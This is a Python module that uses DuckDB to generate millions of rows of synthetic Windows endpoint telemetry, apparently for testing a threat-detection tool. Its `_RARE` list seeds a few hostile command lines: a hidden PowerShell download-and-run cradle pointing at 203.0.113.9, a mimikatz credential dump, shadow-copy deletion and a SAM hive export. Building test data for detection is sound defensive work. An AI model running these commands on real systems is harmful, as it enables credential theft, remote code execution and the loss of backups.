"""Telemetry of the shape that is recorded in practice, made up by DuckDB: millions of rows in seconds, always the same.

Few programs make most rows, most command lines repeat with other numbers in them, columns about signatures and remote
sessions hold little, and one row in tens of thousands is of interest. The files are laid out as a lake's.
"""

from __future__ import annotations

from pathlib import Path

import duckdb

from vedette.catalogue.tables import TABLES, Column
from vedette.telemetry import Lake
from vedette.telemetry.parquet import stored_names

DAYS = 7
FIRST_DAY = "2026-11-15"
ROWS = {"DeviceProcessEvents": 1_200_003, "DeviceNetworkEvents": 1_200_003, "DeviceEvents": 600_005}
DEVICES = 1500
GROUP = 65_536
"""Rows of a row group, as a lake's writer makes them."""

# `n` is the row's number in its table, `r` a hash of it, `device` and `program` a few values that rows share; `starter`
# is the program of the initiating process.
_PROGRAMS = (
    "svchost.exe", "conhost.exe", "chrome.exe", "msedge.exe", "cmd.exe", "powershell.exe", "backgroundTaskHost.exe",
    "RuntimeBroker.exe", "taskhostw.exe", "WmiPrvSE.exe", "SearchProtocolHost.exe", "dllhost.exe", "Teams.exe",
    "OneDrive.exe", "git.exe", "python.exe", "node.exe", "code.exe", "OUTLOOK.EXE", "WINWORD.EXE", "EXCEL.EXE",
    "rundll32.exe", "regsvr32.exe", "schtasks.exe", "net.exe", "whoami.exe", "certutil.exe", "bitsadmin.exe",
    "mshta.exe", "wscript.exe", "msiexec.exe", "Update.exe",
)  # fmt: skip
_LINES = (
    r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
    r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 '
    r"--num-raster-threads=4 --renderer-client-id={k} --time-ticks-at-unix-epoch=-{k}000 --field-trial-handle={k}",
    r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network '
    r"--service-sandbox-type=none --mojo-platform-channel-handle={k} /prefetch:8",
    r'cmd.exe /c "dir C:\Users\user{k}\AppData\Local\Temp"',
    r"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File C:\ProgramData\Inventory\collect{k}.ps1",
)
_RARE = (
    r"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a{k}.ps1')",
    r"C:\Temp\mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
    r"cmd.exe /c vssadmin.exe delete shadows /all /quiet",
    r"reg.exe save HKLM\SAM C:\Temp\sam{k}.hiv",
    r"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA{k}=",
)
_TIME = f"TIMESTAMP_NS '{FIRST_DAY}' + to_microseconds(n * {DAYS * 86_400_000_000} // {{count}})"
_COMMON = {
    "Timestamp": _TIME,
    "DeviceId": "device.id",
    "DeviceName": "device.name",
    "ReportId": "(n // 400) % 100000",
    "InitiatingProcessFileName": "starter.name",
    "InitiatingProcessFolderPath": r"'c:\windows\system32\' || lower(starter.name)",
    "InitiatingProcessCommandLine": "replace(starter.line, '{k}', (r % 5000)::VARCHAR)",
    "InitiatingProcessSHA1": "starter.sha1",
    "InitiatingProcessSHA256": "starter.sha256",
    "InitiatingProcessMD5": "starter.md5",
    "InitiatingProcessId": "4 * (r % 9000)",
    "InitiatingProcessCreationTime": f"{_TIME} - to_microseconds(r % 86400000000)",
    "InitiatingProcessAccountName": "CASE WHEN r % 3 = 0 THEN 'user' || device.number ELSE 'system' END",
    "InitiatingProcessAccountDomain": "CASE WHEN r % 3 = 0 THEN 'halden' ELSE 'nt authority' END",
    "InitiatingProcessParentFileName": "'services.exe'",
    "InitiatingProcessParentId": "4 * (r % 900)",
    "InitiatingProcessIntegrityLevel": "CASE WHEN r % 3 = 0 THEN 'Medium' ELSE 'System' END",
    "InitiatingProcessVersionInfoCompanyName": "CASE WHEN r % 2 = 0 THEN 'Microsoft Corporation' ELSE '' END",
}
_SPECIAL: dict[str, dict[str, str]] = {
    "DeviceProcessEvents": {
        "ActionType": "'ProcessCreated'",
        "FileName": "program.name",
        "FolderPath": r"'C:\Windows\System32\' || program.name",
        "SHA1": "program.sha1",
        "SHA256": "program.sha256",
        "MD5": "program.md5",
        "FileSize": "program.size",
        "ProcessId": "4 * (r % 16000)",
        "ProcessCommandLine": "replace(CASE WHEN n % 20011 = 17 THEN rare.line ELSE program.line END, '{k}', "
        "(r % 5000)::VARCHAR)",
        "ProcessIntegrityLevel": "CASE WHEN r % 3 = 0 THEN 'Medium' ELSE 'System' END",
        "ProcessCreationTime": _TIME,
        "AccountName": "CASE WHEN r % 3 = 0 THEN 'user' || device.number ELSE 'system' END",
        "AccountDomain": "CASE WHEN r % 3 = 0 THEN 'halden' ELSE 'nt authority' END",
        "LogonId": "CASE WHEN r % 3 = 0 THEN r % 1000000 ELSE 999 END",
    },
    "DeviceNetworkEvents": {
        "ActionType": "CASE r % 10 WHEN 0 THEN 'ConnectionFailed' WHEN 1 THEN 'InboundConnectionAccepted' "
        "ELSE 'ConnectionSuccess' END",
        "RemoteIP": "printf('198.%d.%d.%d', 18 + r % 2, (r // 11) % 40, (r // 401) % 250)",
        "RemotePort": "CASE WHEN r % 4 = 0 THEN 80 WHEN r % 97 = 0 THEN 3389 ELSE 443 END",
        "RemoteUrl": "CASE WHEN r % 3 = 0 THEN '' ELSE printf('host%d.cdn%d.example', r % 900, r % 17) END",
        "LocalIP": "printf('10.1.%d.%d', device.number // 250, device.number % 250)",
        "LocalPort": "49152 + r % 16000",
        "Protocol": "'Tcp'",
        "LocalIPType": "'Private'",
        "RemoteIPType": "'Public'",
    },
    "DeviceEvents": {
        "ActionType": "CASE WHEN r % 4 = 0 THEN 'DnsQueryResponse' WHEN r % 4 = 1 THEN 'PowerShellCommand' "
        "WHEN r % 4 = 2 THEN 'ProcessPrimaryTokenModified' ELSE 'ScheduledTaskCreated' END",
        "AdditionalFields": """CASE
          WHEN r % 4 = 0 THEN printf('{"DnsQueryString":"host%d.cdn%d.example","DnsQueryResult":[{"Result":'
            || '"198.18.0.%d","DnsQueryType":"A"},{"Result":"198.19.0.%d","DnsQueryType":"A"}]}', r % 900, r % 17,
            r % 250, r % 90)
          WHEN r % 4 = 1 THEN printf('{"Command":"Get-Item-%d"}', r % 300)
          WHEN r % 4 = 2 THEN printf('{"TokenModificationProperties":"{\\"tokenChangeDescription\\":\\"Privileges were '
            || 'added\\",\\"privilegesFlags\\":%d}"}', r % 70000)
          ELSE printf('{"TaskName":"\\\\Vendor\\\\Update %d","TaskContent":"<Task/>"}', r % 40) END""",
        "FileName": "CASE WHEN r % 4 = 2 THEN program.name ELSE '' END",
    },
}


def write(folder: Path, share: float = 1.0) -> Lake:
    """A lake with `ROWS`, or a share of them."""
    with duckdb.connect() as engine:
        engine.execute("CREATE TABLE programs (place BIGINT, name VARCHAR, line VARCHAR)")
        for place, name in enumerate(_PROGRAMS):
            line = _LINES[place] if place < len(_LINES) else f"{name} --job {{k}} --profile default"
            engine.execute("INSERT INTO programs VALUES (?, ?, ?)", [place, name, line])
        engine.execute(
            "CREATE TABLE program AS SELECT *, sha1(name) AS sha1, sha256(name) AS sha256, md5(name) AS md5, "
            "20000 + place * 71993 AS size FROM programs"
        )
        engine.execute("CREATE TABLE rare AS SELECT unnest(range(?)) AS place, unnest(?) AS line", [len(_RARE), _RARE])
        engine.execute(
            "CREATE TABLE device AS SELECT number, sha1('device' || number) AS id, "
            f"printf('ws-%04d.halden.example', number) AS name FROM range({DEVICES}) AS t(number)"
        )
        for name, rows in ROWS.items():
            _write_table(engine, folder, name, round(rows * share))
    return Lake(folder)


def _write_table(engine: duckdb.DuckDBPyConnection, folder: Path, name: str, count: int) -> None:
    values = _COMMON | _SPECIAL[name]
    stored = stored_names(name)
    columns = ", ".join(
        f"CAST({values.get(column.name, _nothing(column)).replace('{count}', str(count))} AS {_TYPES[column.type]}) "
        f'AS "{stored[column.name]}"'
        for column in TABLES[name].columns
    )
    per_day = count // DAYS
    for day in range(DAYS):
        place = folder / name / f"{FIRST_DAY[:8]}{int(FIRST_DAY[8:]) + day:02}"
        place.mkdir(parents=True)
        numbered = (
            "SELECT n, (hash(n) // 4)::BIGINT AS r, (hash(-n) // 4)::BIGINT AS other "
            f"FROM range({day * per_day}, {(day + 1) * per_day}) AS t(n)"
        )
        rows = (
            f"SELECT {columns} FROM (SELECT n, r, {_place('r')} AS p, {_place('other')} AS s FROM ({numbered})) "
            f"JOIN device ON device.number = (r // 13) % {DEVICES} JOIN program ON program.place = p "
            f"JOIN program AS starter ON starter.place = s JOIN rare ON rare.place = r % {len(_RARE)}"
        )
        engine.execute(
            f"COPY ({rows}) TO '{place / 'part-0000000000000000-0.parquet'}' "
            f"(FORMAT parquet, COMPRESSION zstd, ROW_GROUP_SIZE {GROUP})"
        )


_TYPES = {"string": "VARCHAR", "dynamic": "VARCHAR", "bool": "BOOLEAN", "int": "INTEGER", "long": "BIGINT",
          "real": "DOUBLE", "datetime": "TIMESTAMP_NS"}  # fmt: skip


def _place(number: str) -> str:
    """A program: a fifth of all rows is of the first, a fifth of the rest of the second, and so on."""
    return f"least(floor(ln(1 - ({number}) % 100003 / 100003.0) / ln(0.8))::BIGINT, {len(_PROGRAMS) - 1})"


def _nothing(column: Column) -> str:
    return "''" if column.type in ("string", "dynamic") else "NULL"
